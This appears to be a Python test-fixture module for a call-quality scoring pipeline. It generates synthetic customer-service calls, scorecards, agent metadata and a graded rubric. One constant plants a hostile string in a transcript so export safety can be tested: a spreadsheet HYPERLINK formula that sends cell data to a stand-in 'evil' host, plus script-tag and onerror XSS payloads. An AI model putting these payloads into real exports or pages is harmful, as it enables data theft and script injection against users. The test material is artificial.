"""Calls made up for tests of exports and reviews: realistic in shape, hostile in content where asked."""

from __future__ import annotations

import datetime as dt
import random
from dataclasses import replace

from pipeline.conversation import (
    CallMetadata,
    CallRecord,
    Conversation,
    CriterionAnswer,
    Engine,
    Evidence,
    Finding,
    LedgerEntry,
    RoleSentiment,
    RubricRef,
    Scorecard,
    Searched,
    SectionScore,
    Sentiment,
    Transcript,
    Turn,
)
from pipeline.rubric import Rubric, parse
from pipeline.score import scorecard

HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"x")</script><script>window.pwned=1</script>'
    "<img src=x onerror=pwned=1>\x07"
)
LINES = (
    ("agent", "Thank you for calling Harbor Valley, my name is Jennifer. How can I help you today?"),
    ("customer", "Hi, I was charged twice for the same transfer and nobody has called me back."),
    ("agent", "I am sorry about that. Can I have your full name and the last four digits of your account?"),
    ("customer", "It is Robert Johnson, and honestly this is the third time I am explaining this."),
    ("agent", "I understand how frustrating that is. Let me look at the transfer now."),
    ("customer", "Fine. How long is this going to take?"),
    ("agent", "The second charge was reversed this morning, you will see it within two days."),
    ("customer", "Oh good. Thank you, that is all I needed."),
    ("agent", "You are welcome. Is there anything else I can help you with?"),
    ("customer", "No, that is it. Goodbye."),
)
CRITERIA = (
    ("opening", "greeting", 10.0, False),
    ("opening", "identity", 15.0, True),
    ("handling", "empathy", 20.0, False),
    ("handling", "resolution", 30.0, False),
    ("closing", "offer_more_help", 10.0, False),
    ("closing", "farewell", 5.0, False),
)
AGENTS = (
    ("a-101", "Jennifer Moss", "north"),
    ("a-102", "Omar Siddiqui", "north"),
    ("a-103", "Zoë Brandt", "south"),
)
RUBRIC = RubricRef("support", "3", "5f2c9d7be1a04c33")


def example_conversation(call_id: str, seed: int = 0, *, repeats: int = 1, note: str = "") -> Conversation:
    """A two-channel call of ``10 * repeats`` turns with sentiment, findings and metrics."""
    rng = random.Random(seed)
    turns, at = [], 1.0
    for index, (role, text) in enumerate(LINES * repeats):
        length = len(text) / 15
        score = rng.uniform(-0.9, 0.4) if role == "customer" and index < 6 else rng.uniform(-0.1, 0.9)
        label = "negative" if score < -0.3 else "positive" if score > 0.3 else "neutral"
        turns.append(Turn(
            turn=index, role=role, text=text + (f" {note}" if index == 1 else ""), start_s=round(at, 2),
            end_s=round(at + length, 2), channel=0 if role == "agent" else 1,
            confidence=round(rng.uniform(0.6, 0.98), 2), sentiment=Sentiment(round(score, 2), label),
        ))  # fmt: skip
        at += length + rng.uniform(0.1, 1.5)
    findings = (
        Finding(
            "risk", "churn", 3, turns[3].start_s, turns[3].end_s, "third time I am explaining", 0.8,
            "callqa.risk.v1",
        ),
        Finding(
            "empathy", "apology", 2, turns[2].start_s, turns[2].end_s, "I am sorry about that", None,
            "callqa.empathy.v1",
        ),
        Finding("pii", "account", 2, turns[2].start_s, turns[2].end_s, "[ACCOUNT]", None, "callqa.pii.v1"),
        Finding("silence", "dead_air", None, turns[5].end_s, turns[6].start_s, "", 4.2, "callqa.silence.v1"),
    )  # fmt: skip
    customer = [t.sentiment.score for t in turns if t.role == "customer" and t.sentiment]
    return Conversation(
        Transcript(
            call_id=call_id, turns=tuple(turns), language="en", duration_s=round(at + 1, 2),
            engine=Engine("callqa", "base", "f00d"), channels=2,
        ),
        findings=findings,
        metrics={
            "talk_ratio": 0.52, "silence_s": 6.5, "overtalk_s": 1.2, "agent_words_per_minute": 151.0,
            "hold_s": None,
        },
        sentiment={"customer": RoleSentiment(
            sum(customer) / len(customer),
            (customer[0], None, customer[-2], customer[-1]),
            customer[-1] - customer[0], min(customer), 1,
        )},
    )  # fmt: skip


def example_scorecard(call_id: str, conversation: Conversation, seed: int = 0) -> Scorecard:
    """A scorecard with every kind of answer, evidence for each yes and a nearest miss for each no."""
    rng = random.Random(seed)
    turns = conversation.transcript.turns
    sections: dict[str, list[CriterionAnswer]] = {}
    earned = possible = 0.0
    failed = False
    for index, (section, name, weight, critical) in enumerate(CRITERIA):
        answer = rng.choices(("yes", "no", "na", "undetermined"), (6, 2, 1, 1))[0]
        turn = turns[min(index * 2, len(turns) - 1)]
        quote = Evidence(turn.turn, turn.role, turn.start_s, turn.end_s, turn.text, f"phrase:{name}", 0.93)
        if answer in ("yes", "no"):
            possible += weight
            earned += weight if answer == "yes" else 0
        failed |= critical and answer == "no"
        sections.setdefault(section, []).append(CriterionAnswer(
            id=name, answer=answer,
            points=(weight if answer == "yes" else 0.0) if answer in ("yes", "no") else None,
            max_points=weight, weight=weight, critical=critical, evidence=(quote,) if answer == "yes" else (),
            searched=Searched("4 phrases", "agent", 0.0, 30.0, 5) if answer == "no" else None,
            nearest=quote if answer == "no" else None,
            reason={
                "yes": "said as required", "no": "none of the phrases was heard", "na": "did not apply",
                "undetermined": "recognised too weakly to judge",
            }[answer],
        ))  # fmt: skip
    raw = 100 * earned / possible if possible else None
    undetermined = any(a.answer == "undetermined" for answers in sections.values() for a in answers)
    final = 0.0 if failed else raw
    outcome = (
        "fail" if failed else "needs_review" if undetermined else "pass" if (final or 0) >= 75 else "fail"
    )
    return Scorecard(
        call_id=call_id, rubric=RUBRIC, raw_score=raw, final_score=final,
        outcome=outcome if raw is not None else "not_scored",
        sections=tuple(SectionScore(name, None, tuple(answers)) for name, answers in sections.items()),
        autofail_reasons=("identity not verified",) if failed else (),
        review_reasons=("1 answer undetermined",) if undetermined else (), pass_mark=75.0,
    )  # fmt: skip


def example_metadata(call_id: str, index: int = 0) -> CallMetadata:
    """Metadata of one of three agents over six weeks, in a zone that is not UTC."""
    agent_id, agent_name, team = AGENTS[index % len(AGENTS)]
    return CallMetadata(
        call_id=call_id, client=("acme", "globex")[index % 2], queue="support", team=team, agent_id=agent_id,
        agent_name=agent_name, direction="inbound", timezone="Asia/Karachi", agent_channel=0,
        started_at=dt.datetime(2026, 10, 5, 4, 0, tzinfo=dt.UTC) + dt.timedelta(hours=11 * index),
    )  # fmt: skip


def example_records(count: int, *, repeats: int = 1) -> list[CallRecord]:
    """Records to load into a store; the fourth carries a formula, markup and a script in its words."""
    made = []
    for index in range(count):
        call_id = f"call-{index:03d}"
        conversation = example_conversation(
            call_id, index, note=HOSTILE if index == 3 else "", repeats=repeats
        )
        card = example_scorecard(call_id, conversation, index)
        ledger = LedgerEntry(f"{call_id}.wav", f"{index:064x}", call_id, "scored")
        made.append(CallRecord(ledger, example_metadata(call_id, index), conversation, (card,)))
    return made


GRADED = parse("""
rubric: care
version: "1"
title: Care
mode: points
pass_mark: 70
sections:
  - id: service
    title: Service
    criteria:
      - id: greeting
        question: Did the agent greet the customer?
        check: {kind: phrases, any: [Thank you for calling]}
      - id: empathy
        question: How far did the agent show understanding?
        points: 4
        levels:
          - {label: "named the feeling, and why", check: {kind: phrases, any: [I understand how frustrating]}}
          - {label: said sorry, check: {kind: phrases, any: [I am sorry about that]}}
""")
"""A rubric with a graded criterion; its best grade has a comma in it."""


def graded_records(count: int, rubric: Rubric = GRADED) -> list[CallRecord]:
    """Records scored under ``GRADED``: the grades 4, 2 and 0 in turn, every greeting heard."""
    made = []
    for index, record in enumerate(example_records(count)):
        call_id = f"call-{index:03d}"
        turn = record.conversation.transcript.turns[4]
        points = (4.0, 2.0, 0.0)[index % 3]
        quote = Evidence(turn.turn, turn.role, turn.start_s, turn.end_s, turn.text, "phrase:empathy", 0.9)
        answers = {
            "greeting": CriterionAnswer("greeting", "yes", 1.0, 1.0, 1.0),
            "empathy": CriterionAnswer(
                "empathy", "yes" if points >= 2 else "no", points, 4.0, 1.0, evidence=(quote,)
            ),
        }
        made.append(replace(record, scorecards=(scorecard(call_id, rubric, answers),)))
    return made
